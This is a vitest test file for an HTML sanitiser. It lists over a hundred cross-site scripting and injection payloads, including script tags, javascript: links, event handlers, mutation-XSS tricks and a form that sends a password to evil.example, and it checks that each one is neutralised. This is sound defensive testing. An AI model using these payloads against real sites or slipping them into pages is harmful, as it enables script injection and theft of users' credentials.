import { parseHTML } from "linkedom";
import { describe, expect, it } from "vitest";
import { htmlToText, sanitise } from "./sanitise";
import { ALLOWED_ATTRIBUTES, ALLOWED_TAGS } from "./sanitise-rules";

/** Everything that a hostile page, feed or document might bring. */
const ATTACKS = [
  `<script>alert(1)</script>`,
  `<script src=https://evil.example/x.js></script>`,
  `<SCRIPT>alert(1)</SCRIPT >`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<script/x>alert(1)</script>`,
  `<script\n>alert(1)</script\n>`,
  `<<script>alert(1)//<</script>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="https://a.example/p.jpg" onload="alert(1)">`,
  `<IMG SRC=JaVaScRiPt:alert(1)>`,
  `<img src="javascript:alert(1)">`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<img src="data:text/html,<script>alert(1)</script>">`,
  `<img srcset="javascript:alert(1) 1x, x 2x" src="https://a.example/a.png">`,
  `<img src="https://a.example/a.png" style="position:fixed;inset:0">`,
  `<img/src="x"/onerror=alert(1)//`,
  `<img src="x\` onerror=alert(1)">`,
  `<img """><script>alert(1)</script>">`,
  `<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">`,
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="JAVASCRIPT:alert(1)">x</a>`,
  `<a href=" javascript:alert(1)">x</a>`,
  `<a href="java\tscript:alert(1)">x</a>`,
  `<a href="java\nscript:alert(1)">x</a>`,
  `<a href="java&#x0A;script:alert(1)">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
  `<a href="javascript&colon;alert(1)">x</a>`,
  `<a href="\u0001javascript:alert(1)">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
  `<a href="file:///etc/passwd">x</a>`,
  `<a href="blob:https://a.example/1">x</a>`,
  `<a href="feed:javascript:alert(1)">x</a>`,
  `<a href="//evil.example/x">x</a>`,
  `<a href="https://user:secret@evil.example/">x</a>`,
  `<a href="https://a.example/" target="_blank" onclick="alert(1)" style="x" id="main" class="btn">x</a>`,
  `<a href="mailto:a@b.example?bcc=all@c.example&body=x">x</a>`,
  `<a href="tel:123">x</a>`,
  `<a href="#main">x</a>`,
  `<a href='https://a.example/"onmouseover="alert(1)'>x</a>`,
  `<a xlink:href="javascript:alert(1)">x</a>`,
  `<a href="https://a.example/" ping="https://evil.example/">x</a>`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><style><img src=x onerror=alert(1)></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<math href="javascript:alert(1)">x</math>`,
  `<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<applet code="x"></applet>`,
  `<base href="https://evil.example/"><a href="x">x</a>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<style><script>alert(1)</script></style>`,
  `<p style="background:url(javascript:alert(1))">x</p>`,
  `<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>`,
  `<p id="comments" class="masthead" name="body">x</p>`,
  `<form action="https://evil.example/"><input name=password><button>x</button></form>`,
  `<form><button formaction="javascript:alert(1)">x</button></form>`,
  `<input autofocus onfocus=alert(1)>`,
  `<select><option><script>alert(1)</script></option></select>`,
  `<textarea><script>alert(1)</script></textarea>`,
  `<textarea></textarea><img src=x onerror=alert(1)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<noembed><img src=x onerror=alert(1)></noembed>`,
  `<xmp><script>alert(1)</script></xmp>`,
  `<plaintext><script>alert(1)</script>`,
  `<title><img src=x onerror=alert(1)></title>`,
  `<template><img src=x onerror=alert(1)></template>`,
  `<details open ontoggle=alert(1)>x</details>`,
  `<body onload=alert(1)>x`,
  `<video src=x onerror=alert(1)></video>`,
  `<video><source onerror=alert(1)></video>`,
  `<audio src="https://evil.example/beacon" autoplay></audio>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>`,
  `<td colspan="99999999" rowspan="-1" onclick=alert(1)>x</td>`,
  `<ol start="1e9" onclick=alert(1)><li value="x">x</li></ol>`,
  `<blockquote cite="javascript:alert(1)">x</blockquote>`,
  `<time datetime='"><script>alert(1)</script>'>x</time>`,
  `<abbr title='"><img src=x onerror=alert(1)>'>x</abbr>`,
  `<p lang='"><script>alert(1)</script>' dir="sideways">x</p>`,
  `<!--><script>alert(1)</script>-->`,
  `<!-- --!><script>alert(1)</script> -->`,
  `<![CDATA[<script>alert(1)</script>]]>`,
  `<?xml-stylesheet href="javascript:alert(1)"?>`,
  `<!ENTITY x SYSTEM "file:///etc/passwd">&x;`,
  `<p/onclick=alert(1)>x</p>`,
  `<p \u0000onclick=alert(1)>x</p>`,
  `<p onclick\u0000=alert(1)>x</p>`,
  `<x onclick=alert(1)>x</x>`,
  `<custom-element onconnected=alert(1)>x</custom-element>`,
  `<h1 onclick=alert(1)>x</h1><h6 style=x>y</h6>`,
  `<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>`,
  `<p>&amp;lt;script&amp;gt;</p>`,
  `\u003cscript\u003ealert(1)\u003c/script\u003e`,
  `<img src="https://stats.wp.com/b.gif?v=1" width="1" height="1">`,
  `<img src="https://a.example/spacer.gif">`,
  `<img src="https://a.example/photo.jpg" width="1" height="1">`,
  `<div><div><div><script>alert(1)</script></div></div></div>`,
  `<a href="https://a.example/"><img src=x onerror=alert(1)></a>`,
  `<p>${"<b>".repeat(500)}x`,
  `<p title=${"a".repeat(10)} ${"onclick=alert(1) ".repeat(50)}>x</p>`,
];

const LINK = /^(https?:\/\/[^@]*$|https?:\/\/[^/@]+\/|mailto:[^?]+$)/;

/** Whatever a browser's parser would find in it that the rules do not allow. */
function harm(html: string): string[] {
  const { document } = parseHTML(`<!doctype html><html><body>${html}</body></html>`);
  return [...document.body.querySelectorAll("*")].flatMap((element) => {
    const tag = element.tagName.toLowerCase();
    const allowed = [...(ALLOWED_ATTRIBUTES[tag] ?? []), "lang", "dir"];
    const problems = [...element.attributes].flatMap(({ name, value }) => [
      ...(allowed.includes(name) ? [] : [`${tag}[${name}]`]),
      ...(name === "href" && !LINK.test(value) ? [`href ${value}`] : []),
      ...(name === "src" && !value.startsWith("https://") ? [`src ${value}`] : []),
    ]);
    if (!(ALLOWED_TAGS as readonly string[]).includes(tag)) problems.push(tag);
    if (tag === "a" && element.getAttribute("rel") !== "nofollow noopener external") problems.push("a link without rel");
    if (tag === "img" && element.getAttribute("loading") !== "lazy") problems.push("an eager picture");
    return problems;
  });
}

describe("a hostile body", () => {
  it("comes in every way we know of", () => {
    expect(new Set(ATTACKS).size).toBeGreaterThanOrEqual(100);
  });

  it.each(ATTACKS)("is harmless: %s", (attack) => {
    for (const wrapped of [attack, `<p>before ${attack} after</p>`, `<ul><li>${attack}`, `<table><tr><td>${attack}`]) {
      const clean = sanitise(wrapped, "https://paper.example/a/b.html");
      expect(harm(clean)).toEqual([]);
      expect(sanitise(clean, "https://paper.example/a/b.html")).toBe(clean);
    }
  });
});

describe("an honest body", () => {
  it("keeps its structure", () => {
    const html = `<h2>Head</h2><p>One <em>two</em> <strong>three</strong></p><ul><li>a</li><li>b</li></ul><blockquote><p>said</p></blockquote><pre><code>x &lt; y</code></pre>`;
    expect(sanitise(html)).toBe(html);
  });

  it("keeps tables with their heads and spans", () => {
    const html = `<table><caption>Rates</caption><thead><tr><th scope="col">Year</th></tr></thead><tbody><tr><td colspan="2">1.5</td></tr></tbody></table>`;
    expect(sanitise(html)).toBe(html);
  });

  it("gives the page's own heading levels", () => {
    expect(sanitise("<h1>a</h1><h5>b</h5>")).toBe("<h2>a</h2><h4>b</h4>");
  });

  it("makes addresses absolute and drops what only tracks", () => {
    expect(sanitise(`<a href="../c?utm_source=x&id=4#part">x</a>`, "https://paper.example/a/b/d.html"))
      .toBe(`<a href="https://paper.example/a/c?id=4#part" rel="nofollow noopener external">x</a>`);
  });

  it("keeps a picture with its size and caption, loaded late", () => {
    expect(sanitise(`<figure><img src="/p.jpg" alt="A ship" width="800" height="450"><figcaption>A ship</figcaption></figure>`, "http://paper.example/"))
      .toBe(`<figure><img src="http://paper.example/p.jpg" alt="A ship" width="800" height="450" loading="lazy" /><figcaption>A ship</figcaption></figure>`);
  });

  it("drops what is empty, and relative links that lead nowhere", () => {
    expect(sanitise(`<p> </p><p>x</p><figure></figure><a href="/x">kept words</a>`)).toBe("<p>x</p>kept words");
  });

  it("keeps the language and direction of a passage", () => {
    expect(sanitise(`<p lang="ar" dir="rtl">سلام</p>`)).toBe(`<p lang="ar" dir="rtl">سلام</p>`);
  });
});

describe("the text of a body", () => {
  it("keeps blocks apart and entities as characters", () => {
    expect(htmlToText("<h2>A &amp; B</h2><p>one<br />two</p><ul><li>x</li><li>y</li></ul>")).toBe("A & B\n\none\ntwo\n\nx\n\ny");
  });
});
